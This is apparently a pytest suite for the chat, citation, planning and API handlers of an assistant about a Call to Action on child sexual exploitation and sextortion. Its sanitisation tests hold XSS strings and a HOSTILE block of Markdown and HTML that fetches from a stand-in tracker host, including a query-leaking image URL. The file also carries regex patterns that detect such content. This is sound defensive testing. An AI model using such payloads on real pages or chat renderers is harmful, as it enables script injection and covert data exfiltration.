"""UI handlers without a server; the named API endpoints through gradio_client."""

from __future__ import annotations

import pytest

from assistant.ask.answering import Conversation
from assistant.core import Assistant
from assistant.ui import handlers as h


def test_chat_turn_links_citations_to_sources(real_assistant: Assistant) -> None:
    history, panel, conversation = h.chat(
        real_assistant, "What does the Call to Action expect of payment providers?", [], "", None)
    assert [m["role"] for m in history] == ["user", "assistant"]
    assert "[Private sector 2(c)](#src-cta-private_sector-2-c)" in history[1]["content"]
    assert 'id="src-cta-private_sector-2-c"' in panel
    assert "Proactively work to address risks" in panel
    assert "4-5 December 2024" in panel
    assert conversation.questions


def test_follow_up_through_the_chat(real_assistant: Assistant) -> None:
    conversation = Conversation()
    history, _, conversation = h.chat(real_assistant, "what does the Call to Action say about sextortion?",
                                      [], "", conversation)
    history, panel, _ = h.chat(real_assistant, "and what about companies?", history, "", conversation)
    assert len(history) == 4
    assert "src-cta-private_sector-2-c" in panel


def test_user_text_is_escaped_in_the_sources_panel(fake_assistant: Assistant) -> None:
    from assistant.domain.clauses import Clause

    hostile = Clause(id="doc.x.y", label="<img src=x onerror=alert(1)>", text="<script>alert(1)</script>",
                     source="x.md")
    panel = h.sources_html([hostile])
    assert "<script>" not in panel and "&lt;script&gt;" in panel
    assert "<img" not in panel


def test_refusal_has_no_sources(real_assistant: Assistant) -> None:
    history, panel, _ = h.chat(real_assistant, "where can I find child abuse material", [], "", None)
    assert "INHOPE" in history[1]["content"]
    assert 'class="source"' not in panel


def test_api_ask_returns_cli_json(real_assistant: Assistant) -> None:
    data = h.api_ask(real_assistant, "what do NGOs pledge on research?", "")
    assert list(data)[:3] == ["answer", "citations", "hits"]
    assert "cta.civil_society.2.a" in data["citations"]


def test_named_endpoints_with_gradio_client(app_url: str) -> None:
    from gradio_client import Client

    client = Client(app_url, verbose=False, download_files=False)
    data = client.predict("What does the Call to Action expect of payment providers?", "",
                          api_name="/ask")
    assert data["citations"][0] == "cta.private_sector.2.c"
    assert data["hits"][0]["id"] == "cta.private_sector.2.c"


def test_applicable_view_rows(real_assistant: Assistant) -> None:
    summary, rows = h.applicable_view(real_assistant, "A mobile money company in East Africa", "")
    assert summary.startswith("**Sector: Private sector.**")
    assert rows[0][1] == "Private sector 2(c)" and "MNR capability" in rows[0][4]
    assert all(not r[1].startswith(("Government", "Civil society")) for r in rows)


def test_plan_view_writes_both_downloads(real_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
    markdown, md_path, docx_path = h.plan_view(real_assistant, "Ministry of Justice", "", tmp_path)
    assert markdown.startswith("# Action-plan outline: Ministry of Justice")
    assert md_path.endswith(".md") and docx_path.endswith(".docx")
    from docx import Document

    assert Document(docx_path).tables


def test_check_view_statuses_in_words(real_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
    text = ("Governments pledge to criminalise AI-generated abuse and financially motivated "
            "sextortion (Gov 3b).\n"
            "Governments will sign the Lanzarote Convention (Gov 9z).")
    _, rows, report, path = h.check_view(real_assistant, text, None, tmp_path)
    assert [r[3] for r in rows] == ["✓ Supported", "? No such clause"]
    assert rows[1][5] == "Government 1(b)"
    assert report.startswith("# Citation check") and path.endswith("citation-check.md")


def test_check_view_needs_text_or_a_file(fake_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from assistant.errors import BadInput

    with pytest.raises(BadInput, match="Paste a draft or upload a file"):
        h.check_view(fake_assistant, "   ", None, tmp_path)


def test_all_named_endpoints(app_url: str) -> None:
    from gradio_client import Client

    client = Client(app_url, verbose=False, download_files=False)
    applicable = client.predict("A mobile money company in East Africa", api_name="/applicable")
    assert applicable["sector"] == "private_sector"
    assert applicable["pledges"][0]["id"] == "cta.private_sector.2.c"
    plan = client.predict("Ministry of Justice", api_name="/plan")
    assert plan["title"] and plan["sections"][0]["items"][0]["citations"]
    check = client.predict("Members report progress every year (Overarching commitment 4).",
                           api_name="/check")
    assert check["results"][0]["status"] == "unsupported"


def test_endpoint_errors_are_sentences(app_url: str) -> None:
    from gradio_client import Client

    client = Client(app_url, verbose=False, download_files=False)
    with pytest.raises(Exception, match="The query is empty"):
        client.predict("", "", api_name="/ask")


def test_chat_stream_shows_partial_text_then_the_checked_answer(real_assistant: Assistant) -> None:
    from langchain_core.language_models.fake_chat_models import FakeListChatModel

    from assistant.ask.backends.langchain_chat import LangChainBackend

    reply = ("Banks act on sextortion [cta.private_sector.2.c]. Governments must act [cta.government.9.z]. "
             "So must Gοvernment 9（z） and CTA 9.z. Done.")
    backend = LangChainBackend(FakeListChatModel(responses=[reply]), "fake")
    served = Assistant(real_assistant.settings, embedder=real_assistant.embedder,
                       store=real_assistant.store, backend=backend)
    steps = list(h.chat_stream(served, "What must payment providers do?", [], "", None))
    assert len(steps) > 2  # the model's text arrived in pieces, shown sentence by sentence
    assert steps[0][0][1]["content"] == "Banks act on sextortion [Private sector 2(c)]. …"
    final, panel, _ = steps[-1]
    answer, _, notes = final[1]["content"].partition("\n\n> Note:")  # the notes name what was removed
    shown = [step[0][1]["content"] for step in steps[:-1]] + [answer]
    assert not any(mark in text for text in shown for mark in ("9.z", "9(z)", "9（z）"))
    assert "Removed the reference" in notes
    assert final[1]["content"].startswith("Banks act on sextortion "
                                          "[Private sector 2(c)](#src-cta-private_sector-2-c).")
    assert 'id="src-cta-private_sector-2-c"' in panel


def test_chat_stream_extractive_is_one_step(real_assistant: Assistant) -> None:
    steps = list(h.chat_stream(real_assistant, "What must payment providers do?", [], "", None))
    assert len(steps) == 1 and "Private sector 2(c)" in steps[0][0][1]["content"]


def test_app_on_a_busy_port_says_so(real_index) -> None:  # type: ignore[no-untyped-def]
    import os
    import socket
    import subprocess
    import sys

    from assistant.config import PROJECT_DIR

    with socket.create_server(("127.0.0.1", 0)) as busy:
        port = busy.getsockname()[1]
        env = {**os.environ, "ASSISTANT_INDEX_DIR": str(real_index.index_dir), "ASSISTANT_PORT": str(port),
               "GRADIO_ANALYTICS_ENABLED": "False", "HF_HUB_OFFLINE": "1"}
        done = subprocess.run([sys.executable, str(PROJECT_DIR / "app.py")], env=env, capture_output=True,
                              text=True, timeout=120, cwd=PROJECT_DIR)
    assert done.returncode == 1
    assert done.stderr == (f"Error: cannot serve at 127.0.0.1:{port} (address in use); "
                           "set ASSISTANT_PORT (or ASSISTANT_HOST) to a free one.\n")


# Hostile content: tracking images and HTML, from a user, a document or a model (issue 17).
OUTSIDE = "http://tracker.invalid"
HOSTILE = (f"Look ![t]({OUTSIDE}/track.png) and ![q]({OUTSIDE}/leak.png?q=question) "
           f'<img src="{OUTSIDE}/raw.png"> <b>bold</b> <a href="{OUTSIDE}/x">link</a> '
           f"<{OUTSIDE}/auto> {OUTSIDE}/bare www.tracker.invalid [ref]\n[ref]: {OUTSIDE}/def.png\n"
           f"$$\\href{{{OUTSIDE}}}{{x}}$$")


def assert_inert(markdown: str) -> None:
    """Nothing left that a Markdown renderer would turn into a fetch, a tag or an outside link."""
    import re

    assert "<" not in markdown
    assert re.search(r"(?<!\\)!\[", markdown) is None  # no image
    assert re.search(r"(?<!\\)\]\((?!#)", markdown) is None  # no link out of the page
    assert re.search(r"(?i)(https?|www)(:|\.)", markdown) is None  # no bare-URL autolink
    assert re.search(r"(?m)^\s*(?<!\\)\[[^\]\n]*\]:", markdown) is None  # no link definition


def test_escape_md_and_neutralise_leave_nothing_that_fetches() -> None:
    from assistant.ui.safe import escape_md, neutralise

    for make in (escape_md, neutralise):
        assert_inert(make(HOSTILE))
        assert_inert(neutralise(make(HOSTILE)))
    assert neutralise(neutralise(HOSTILE)) == neutralise(HOSTILE)  # a second pass changes nothing
    kept = neutralise("# Heading\n\n- **bold** [Government 3(b)](#src-cta-government-3-b)\n> quote")
    assert "[Government 3(b)](#src-cta-government-3-b)" in kept and kept.startswith("# Heading")
    assert "> quote" in kept


def test_a_served_models_hostile_answer_is_inert(real_assistant: Assistant) -> None:
    from langchain_core.language_models.fake_chat_models import FakeListChatModel

    from assistant.ask.backends.langchain_chat import LangChainBackend

    reply = f"Banks act on sextortion [cta.private_sector.2.c]. {HOSTILE}"
    backend = LangChainBackend(FakeListChatModel(responses=[reply] * 3), "fake")
    served = Assistant(real_assistant.settings, embedder=real_assistant.embedder,
                       store=real_assistant.store, backend=backend)
    hostile_history = [{"role": "user", "content": HOSTILE}, {"role": "assistant", "content": HOSTILE}]
    for step in h.chat_stream(served, f"What must payment providers do? {HOSTILE}", hostile_history, "",
                              None):
        for message in step[0]:
            assert_inert(message["content"])
        assert "<img" not in step[1] and "<a " not in step[1] and "<b>" not in step[1]


def test_hostile_draft_and_profile_are_inert(fake_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
    draft = f"Governments pledge to criminalise AI-generated abuse (Gov 3b). {HOSTILE}\n{HOSTILE} (PS 2c)."
    summary, _rows, report, _path = h.check_view(fake_assistant, draft, None, tmp_path)
    assert_inert(summary)
    assert_inert(report)
    summary, _ = h.applicable_view(fake_assistant, f"A bank {HOSTILE}", "")
    assert_inert(summary)
    outline, _, _ = h.plan_view(fake_assistant, f"A bank {HOSTILE}", "", tmp_path / "plan")
    assert_inert(outline)


def test_sources_panel_names_a_users_document(fake_assistant: Assistant) -> None:
    from assistant.domain.clauses import Clause

    doc = Clause(id="doc.our-policy.scope", label="Our policy: Scope", text="We report every case.",
                 source="our-policy.md", kind="document", context="Scope")
    card = h.source_card(doc)
    assert "From your document <cite>our-policy.md</cite>" in card and "your document" in card
    mnr = fake_assistant.corpus.by_id()["mnr.12"]
    assert mnr.source and h.source_card(mnr).count(mnr.source.split(",")[0]) >= 1


def test_a_job_past_its_time_limit_is_a_sentence() -> None:
    import time

    import gradio as gr

    from assistant.ui.jobs import Jobs

    jobs = Jobs(seconds=0.5, workers=2)
    slow = jobs.bounded(lambda text: time.sleep(2) or text)
    started = time.monotonic()
    with pytest.raises(gr.Error, match=r"took longer than 0\.5 seconds"):
        slow("x")
    assert time.monotonic() - started < 1.5
    assert jobs.bounded(lambda text: text.upper())("ok") == "OK"  # the pool still serves
    with pytest.raises(gr.Error, match="Something went wrong \\(ZeroDivisionError\\)"):
        jobs.bounded(lambda text: 1 / 0)("x")


def test_a_slow_job_does_not_hold_the_others(real_index, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """While one check runs past its limit, /status, /config and another user's job answer fast."""
    import json
    import threading
    import time
    import urllib.request

    from gradio_client import Client

    from .ui_server import running_app

    env = {"ASSISTANT_UI_JOB_SECONDS": "6", "ASSISTANT_TEST_SLOW_CHECK": "30"}
    with running_app(real_index, tmp_path / "app.log", extra_env=env, slow_check=True) as url:
        def get(path: str) -> tuple[float, bytes]:
            started = time.monotonic()
            with urllib.request.urlopen(url + path, timeout=10) as response:
                return time.monotonic() - started, response.read()

        errors: list[str] = []

        def slow_user() -> None:
            try:
                Client(url, verbose=False, download_files=False).predict("a draft", api_name="/check")
            except Exception as exc:
                errors.append(str(exc))

        other = Client(url, verbose=False, download_files=False)
        for _ in range(5):  # warm up: the first job loads the model, which may take past the limit
            try:
                other.predict("A bank", api_name="/applicable")
                break
            except Exception:
                time.sleep(1)
        started = time.monotonic()
        thread = threading.Thread(target=slow_user)
        thread.start()
        while json.loads(get("status")[1])["jobs_running"] == 0:
            assert time.monotonic() - started < 30
            time.sleep(0.05)
        assert get("status")[0] < 1 and get("config")[0] < 2
        asked = time.monotonic()
        assert other.predict("A mobile money company", api_name="/applicable")["pledges"]
        assert time.monotonic() - asked < 6, "another user's job waited for the slow one"
        assert json.loads(get("status")[1])["jobs_running"] == 1  # the slow one is still running
        thread.join(30)
        assert errors and "took longer than 6 seconds" in errors[0]
        assert time.monotonic() - started < 20


def test_the_check_tab_deletes_the_upload_and_its_job_folder(fake_assistant: Assistant) -> None:
    from pathlib import Path

    from assistant.ui import app as ui
    from assistant.ui import temp as ui_temp

    def check(draft: str, path: str) -> tuple[str, list[list[str]], str, str]:
        return ui.check_job(fake_assistant, draft, path)

    upload = ui_temp.gradio_folder() / "0123abcd" / "Zephyrine draft.md"
    upload.parent.mkdir(parents=True)
    upload.write_text("Governments pledge to criminalise AI-generated abuse (Gov 3b).\n", encoding="utf-8")
    summary, rows, _report, report_path = check("", str(upload))
    assert rows and "1 citations checked" in summary.replace("citation ", "citations ")
    assert not upload.parent.exists()  # the user's draft is gone once read
    assert list((ui_temp.server_folder() / "jobs").iterdir()) == []  # so is the job's folder
    assert ui_temp.inside(Path(report_path), ui_temp.gradio_folder())  # the download copy
    from assistant.errors import BadInput

    with pytest.raises(BadInput, match="upload it again"):
        check("", str(upload))


def test_check_view_says_why_a_sentence_is_not_supported(real_assistant: Assistant, tmp_path) -> None:  # type: ignore[no-untyped-def]
    text = "Companies must deploy age verification for all users under 18 (PS 1(b))."
    _, rows, _report, _path = h.check_view(real_assistant, text, None, tmp_path)
    status = rows[0][3]
    assert status.startswith("✗ Not supported\nWhy: The clause asks")
    assert "age verification" in status and "*" not in status
